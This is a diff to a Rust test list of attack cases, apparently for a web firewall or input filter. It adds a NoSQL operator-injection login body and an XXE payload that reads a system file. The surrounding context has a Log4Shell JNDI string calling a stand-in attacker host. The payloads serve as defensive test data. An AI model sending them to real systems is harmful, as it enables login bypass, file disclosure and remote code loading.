@@ -691,5 +691,13 @@ pub fn attack_cases() -> Vec<Case> {
         ),
         Case::new("Log4Shell in a custom header", "GET", "/")
             .header("X-Api-Version", "${jndi:ldap://attacker.example/a}"),
+        Case::new("NoSQL operator in JSON body", "POST", "/api/login").body(
+            "application/json",
+            br#"{"username":"admin","password":{"$ne":""}}"#,
+        ),
+        Case::new("XXE in XML body", "POST", "/api/orders.xml").body(
+            "application/xml",
+            br#"<?xml version="1.0"?><!DOCTYPE o [<!ENTITY x SYSTEM "file:///etc/hostname">]><order>&x;</order>"#,
+        ),
     ]
 }
